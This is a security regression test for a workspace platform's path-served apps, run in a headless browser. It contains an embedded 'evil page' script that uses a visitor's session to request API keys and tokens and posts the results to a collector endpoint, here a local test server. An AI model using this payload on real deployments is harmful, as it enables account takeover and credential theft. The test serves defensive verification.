import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import type { AgentHandle } from '../../src/agent/index.js';
import type { CoveClient } from '../../src/sdk/client.js';
import { startAgentWorkspace } from '../helpers/agent-workspace.js';
import { browserMissing, launchChromium, type HeadlessChromium } from '../helpers/chromium.js';
import { eventually } from '../helpers/eventually.js';
import { createMember, createOwner, STRONG_PASSWORD, startTestDaemon, type TestDaemon } from '../helpers/test-daemon.js';
import { THE_SQLITE_RUN_COVERS_IT } from '../helpers/databases.js';

// The attack, in a real browser: bob's workspace app serves a page whose script asks the
// deployment for API keys with whatever session the visitor's browser holds. Path apps run on the
// dashboard's own origin, so a member or the site owner who opened it handed bob their account.
// Now nobody but bob is served his path apps: the page never reaches them, and no key is made.

/** The evil page: it tries for a session key and a named token, and reports what it got to `report`. */
function evilPage(report: string): string {
  return `<!doctype html><title>evil</title><script>
  (async () => {
    const results = {};
    for (const [name, path, body] of [['key', '/api/v2/users/me/keys', undefined], ['token', '/api/v2/users/me/keys/tokens', '{"token_name":"stolen"}']]) {
      try {
        const answer = await fetch(path, { method: 'POST', credentials: 'include', headers: body ? { 'content-type': 'application/json' } : {}, body });
        results[name] = answer.status + ' ' + (await answer.text());
      } catch (error) {
        results[name] = 'error ' + error;
      }
    }
    await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ page: location.pathname, results }) });
  })();
</script>`;
}

/** How long one browser test may take before it fails. */
const STEP_MS = 90_000;

describe('a path app page cannot act with its visitor’s dashboard session', { skip: THE_SQLITE_RUN_COVERS_IT || browserMissing() }, () => {
  let test: TestDaemon;
  let owner: CoveClient;
  let alice: CoveClient;
  let bob: CoveClient;
  let agent: AgentHandle | undefined;
  let browser: HeadlessChromium;
  let home = '';
  const servers: Server[] = [];
  /** How many times the evil page was served, and what its script reported. */
  let served = 0;
  const reports: { page: string; results: Record<string, string> }[] = [];
  let sharedPort = 0;

  /** Serves the evil page and takes the reports of its script. */
  const handler = (report: () => string) => (request: IncomingMessage, response: ServerResponse) => {
    if (request.url === '/report') {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
      request.on('end', () => {
        reports.push(JSON.parse(body) as (typeof reports)[number]);
        response.end();
      });
      return;
    }
    if (request.url?.startsWith('/evil.html')) served += 1;
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(evilPage(report()));
  };

  const listen = async (server: Server) => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.push(server);
    return (server.address() as AddressInfo).port;
  };

  /** A fresh tab that gives up on anything after a while: a regression fails, never hangs. */
  const newPage = async () => {
    const page = await browser.context.newPage();
    page.setDefaultTimeout(15_000);
    return page;
  };

  /** Every API key of a user, session keys included (the API lists named tokens only). */
  const keysOf = async (client: CoveClient) => {
    const { id } = await client.user('me');
    const rows = await test.daemon.store.db.selectFrom('api_keys').select('id').where('user_id', '=', id).execute();
    return rows.map((row) => row.id).sort();
  };

  /** Signs in through the dashboard's form, from `/login?redirect=...` when `redirect` is given. */
  const signIn = async (page: Page, email: string, redirect?: string) => {
    await page.goto(`${test.url}/login${redirect ? `?redirect=${encodeURIComponent(redirect)}` : ''}`);
    await page.getByLabel('Email').fill(email);
    await page.getByLabel('Password').fill(STRONG_PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
  };

  before(async () => {
    const appPort = await listen(createServer(handler(() => `http://127.0.0.1:${appPort}/report`)));
    sharedPort = await listen(createServer(handler(() => `http://127.0.0.1:${sharedPort}/report`)));
    test = await startTestDaemon({ flags: { provisionerDaemons: '1' } });
    owner = await createOwner(test);
    alice = await createMember(test, 'alice');
    bob = await createMember(test, 'bob');
    home = await mkdtemp(join(tmpdir(), 'cove-path-app-attack-'));
    const apps = [
      { slug: 'evil', share: 'authenticated' },
      { slug: 'evil-org', share: 'organization' },
      { slug: 'evil-public', share: 'public' },
      { slug: 'evil-own', share: 'owner' },
    ].map((app) => ({ ...app, url: `http://localhost:${appPort}/` }));
    let workspaceId: string;
    ({ agent, workspaceId } = await startAgentWorkspace({
      url: test.url,
      owner,
      member: bob,
      token: 'agent-token-for-the-attack',
      home,
      templateName: 'evil',
      agent: { apps },
      prepareTemplate: (templateId) => owner.updateTemplate(templateId, { max_port_share_level: 'public' }),
    }));
    await bob.sharePort(workspaceId, { agent_name: 'main', port: sharedPort, share_level: 'authenticated' });
    browser = await launchChromium({ width: 1280, height: 800 });
  });
  after(async () => {
    await browser?.close();
    await agent?.stop();
    await test?.close();
    for (const server of servers) server.close();
    if (home) await rm(home, { recursive: true, force: true });
  });

  for (const victim of [
    { name: 'a member', email: 'alice@example.com', client: () => alice, slugs: ['evil', 'evil-org', 'evil-public'] },
    { name: 'the site owner', email: 'owner@example.com', client: () => owner, slugs: ['evil', 'evil-public', 'evil-own'] },
  ]) {
    it(`is never served to ${victim.name}, who signs in through it or opens it, and makes no key`, { timeout: STEP_MS }, async () => {
      await browser.context.clearCookies();
      const page = await newPage();
      try {
        const keysBefore = await keysOf(victim.client());
        const servedBefore = served;
        // Delivered by a sign-in link: the sign-in lands on the app's address, which refuses them.
        const first = `/@bob/dev.main/apps/${victim.slugs[0] ?? ''}/evil.html`;
        const landing = page.waitForResponse((response) => response.url() === `${test.url}${first}`);
        await signIn(page, victim.email, first);
        assert.equal((await landing).status(), 403);
        await page.getByText("Only the workspace's owner may open its apps by path.").waitFor();
        const keysAfterSignIn = await keysOf(victim.client());
        assert.equal(keysAfterSignIn.length, keysBefore.length + 1, 'the sign-in made one session, and nothing else did');

        // Opened directly, signed in: each shared path app and the shared port.
        for (const path of [...victim.slugs, String(sharedPort)].map((slug) => `/@bob/dev.main/apps/${slug}/evil.html`)) {
          const answer = await page.goto(`${test.url}${path}`);
          assert.equal(answer?.status(), 403, path);
        }
        assert.equal(served, servedBefore, 'the evil page reached the victim');
        assert.deepEqual(await keysOf(victim.client()), keysAfterSignIn, 'a key was made for the victim');
        assert.deepEqual(
          (await victim.client().listTokens()).map((token) => token.token_name),
          [],
        );
        assert.deepEqual(reports, [], 'the evil script ran');
      } finally {
        await page.close();
      }
    });
  }

  it('still serves bob his own path app, whose script runs but is refused his session by the API', { timeout: STEP_MS }, async () => {
    // The control that shows the attack above would have been seen: the same page, opened by its
    // author, is served and its script runs and reports. Its API calls carry bob's cookie and a
    // Referer under the app's path, which the API refuses (a second line: a script may drop its
    // Referer, and then acts as bob, who chose to run it).
    await browser.context.clearCookies();
    const page = await newPage();
    try {
      const keysBefore = await keysOf(bob);
      await signIn(page, 'bob@example.com', '/@bob/dev.main/apps/evil-own/evil.html');
      await eventually(() => assert.equal(reports.length, 1));
      assert.match(reports[0]?.results['key'] ?? '', /^403 .*workspace app's page/);
      assert.equal((await keysOf(bob)).length, keysBefore.length + 1, 'the sign-in only');
    } finally {
      await page.close();
    }
  });

  it('tells bob, and the site owner on his workspace page, that others cannot open his path apps', { timeout: STEP_MS }, async () => {
    for (const [email, note] of [
      ['bob@example.com', /Shared apps open only for you here/],
      ['owner@example.com', /These apps open only for the workspace’s owner/],
    ] as const) {
      await browser.context.clearCookies();
      const page = await newPage();
      try {
        await signIn(page, email, '/@bob/dev');
        await page.locator('[data-note="path-apps"]').getByText(note).waitFor();
        await page
          .locator('[data-note="path-ports"]')
          .getByText(/--wildcard-access-url/)
          .waitFor();
        // No app host: the links are paths, which only bob may open.
        assert.equal(await page.locator('a[data-app="evil"]').getAttribute('href'), '/@bob/dev.main/apps/evil/');
      } finally {
        await page.close();
      }
    }
  });
});
